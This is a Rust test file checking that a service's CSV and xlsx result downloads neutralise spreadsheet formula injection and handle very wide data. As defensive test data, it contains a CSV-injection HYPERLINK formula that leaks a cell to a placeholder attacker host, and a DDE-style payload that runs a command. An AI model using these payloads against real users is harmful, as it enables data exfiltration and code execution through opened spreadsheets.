//! Downloads that are safe to open: CSV cells a spreadsheet would run as a formula are
//! neutralised (a leading `'`) in both layouts while numbers stay as they are; the xlsx writes
//! every text as a string cell, charts series whatever their names, and takes more series than
//! Excel has columns.

mod common;

use std::io::Cursor;

use calamine::{Data, Reader, Xlsx};
use common::{Api, App, classic_parameters, data_message, ingest, read_csv_rows, zip_entry};
use serde_json::json;

const LINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#;

/// `GET path`, answered 200: its bytes.
async fn download(viola: &Api, path: &str) -> Vec<u8> {
    viola.download(path, "").await.body
}

#[tokio::test]
async fn formula_cells_are_neutralised_in_both_csv_layouts_and_numbers_stay() {
    let (app, viola) = App::rig1_and_viewer().await;
    let params = json!({
        "@cmd": "@SUM(1+1)*cmd|' /C calc'!A0",
        "neg": "-1.5",
        "num": -2.5,
        "plus": "+3",
        "tab": "\t=1+1",
        "mode": "sine",
    });
    let data = format!(
        r#"{{{}: [-1.5, 2, -3e-300], "labels": ["-1e-3", "=1+1", "@A1", "+", "\r=2", "ok"]}}"#,
        serde_json::to_string(LINK).expect("name")
    );
    let payload = data_message(LINK, params, &data);
    let id = ingest(&app.db.pool, "rig1", &payload)
        .await
        .expect("a result");

    let plain = download(&viola, &format!("/results/{id}.csv")).await;
    let rows = read_csv_rows(&plain);
    assert_eq!(rows[0], [format!("'{LINK}"), "labels".to_owned()]);
    let column = |c: usize| rows[1..].iter().map(|r| r[c].as_str()).collect::<Vec<_>>();
    assert_eq!(column(0), ["-1.5", "2", "-3e-300", "", "", ""]);
    assert_eq!(column(1), ["-1e-3", "'=1+1", "'@A1", "'+", "'\r=2", "ok"]);

    let classic = download(&viola, &format!("/results/{id}.csv?layout=classic")).await;
    let rows = read_csv_rows(&classic);
    // The series as the old stack wrote them (cut to the shortest), neutralised alike.
    assert_eq!(
        rows[5..],
        [["-1.5", "-1e-3"], ["2", "'=1+1"], ["-3e-300", "'@A1"]]
    );
    assert_eq!(rows[1][1], format!("'{LINK}"), "sentBy");
    let params = classic_parameters(&rows);
    for want in [
        ("'@cmd", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("neg", "-1.5"),
        ("num", "-2.5"),
        ("plus", "+3"),
        ("tab", "'\t=1+1"),
        ("mode", "sine"),
    ] {
        assert!(params.contains(&want), "{want:?} in {params:?}");
    }
    assert_eq!(rows[4], [format!("'{LINK}"), "labels".to_owned()]);
}

#[tokio::test]
async fn xlsx_takes_any_series_name_and_writes_texts_as_strings_not_formulas() {
    let (app, viola) = App::rig1_and_viewer().await;
    let payload = data_message(
        "=1+1",
        json!({"p": "=2+2"}),
        r#"{"Nope!$A$1": [1, 2], "=(Sheet1!$A$1)": [3], "[x]": [4], "=SUM(A1)": ["=1+1", "@A1"]}"#,
    );
    let id = ingest(&app.db.pool, "rig1", &payload)
        .await
        .expect("a result");

    let body = download(&viola, &format!("/results/{id}.xlsx")).await;
    // Each chart series is named by a reference to its header cell on the Data sheet.
    let chart = zip_entry(&body, "xl/charts/chart1.xml");
    for want in ["Data!$A$1", "Data!$B$1", "Data!$C$1", "Data!$A$2:$A$3"] {
        assert!(chart.contains(want), "{want}: {chart}");
    }
    assert!(!chart.contains("Nope"), "{chart}");
    let sheet = zip_entry(&body, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>"), "no formula cells: {sheet}");

    let mut wb: Xlsx<_> = Xlsx::new(Cursor::new(body)).expect("an xlsx file");
    assert_eq!(wb.sheet_names(), ["Data", "Chart", "Parameters", "Info"]);
    let data = wb.worksheet_range("Data").expect("Data");
    let rows: Vec<&[Data]> = data.rows().collect();
    let header: Vec<Data> = ["Nope!$A$1", "=(Sheet1!$A$1)", "[x]", "=SUM(A1)"]
        .map(|s| Data::String(s.into()))
        .to_vec();
    assert_eq!(rows[0], header.as_slice());
    assert_eq!(rows[1][3], Data::String("=1+1".into()));
    assert_eq!(rows[2][3], Data::String("@A1".into()));
    for name in ["Data", "Parameters", "Info"] {
        let formulas = wb.worksheet_formula(name).expect("formulas");
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{name}: {formulas:?}"
        );
    }
    let params = wb.worksheet_range("Parameters").expect("Parameters");
    assert_eq!(params.get((1, 1)), Some(&Data::String("=2+2".into())));
}

#[tokio::test]
async fn xlsx_with_more_series_than_excel_has_columns_goes_on_in_a_second_data_sheet() {
    let (app, viola) = App::rig1_and_viewer().await;
    let payload = data_message("rig1", json!({}), r#"{"s0": [0.5]}"#);
    let id = ingest(&app.db.pool, "rig1", &payload)
        .await
        .expect("a result");
    // 16,384 more numeric series of one value each, straight into the store (what the handler
    // would store for a message this wide, without depending on its series limit).
    sqlx::query(
        "INSERT INTO result_series (result_id, position, name, numeric, len, \"values\")
         SELECT $1, p.first + g, 's' || g, true, 1, float8send(g::float8)
         FROM generate_series(1, 16384) g,
              (SELECT max(position) AS first FROM result_series WHERE result_id = $1) p",
    )
    .bind(id)
    .execute(&app.db.pool)
    .await
    .expect("more series");

    let body = download(&viola, &format!("/results/{id}.xlsx")).await;
    let mut wb: Xlsx<_> = Xlsx::new(Cursor::new(body)).expect("an xlsx file");
    assert_eq!(
        wb.sheet_names(),
        ["Data", "Data 2", "Chart", "Parameters", "Info"]
    );
    let data = wb.worksheet_range("Data").expect("Data");
    assert_eq!(data.width(), 16_384);
    assert_eq!(data.get((0, 0)), Some(&Data::String("s0".into())));
    assert_eq!(data.get((1, 16_383)), Some(&Data::Float(16_383.0)));
    let more = wb.worksheet_range("Data 2").expect("Data 2");
    assert_eq!(more.get((0, 0)), Some(&Data::String("s16384".into())));
    assert_eq!(more.get((1, 0)), Some(&Data::Float(16_384.0)));
    let info = wb.worksheet_range("Info").expect("Info");
    let info: Vec<(String, String)> = info
        .rows()
        .map(|r| (r[0].to_string(), r[1].to_string()))
        .collect();
    assert!(
        info.contains(&(
            "Chart".into(),
            "the first 255 of 16385 numeric series".into()
        )),
        "{info:?}"
    );
    assert!(info.contains(&("Data sheets".into(), "Data, Data 2".into())));

    let csv = download(&viola, &format!("/results/{id}.csv")).await;
    assert_eq!(read_csv_rows(&csv)[0].len(), 16_385);
}
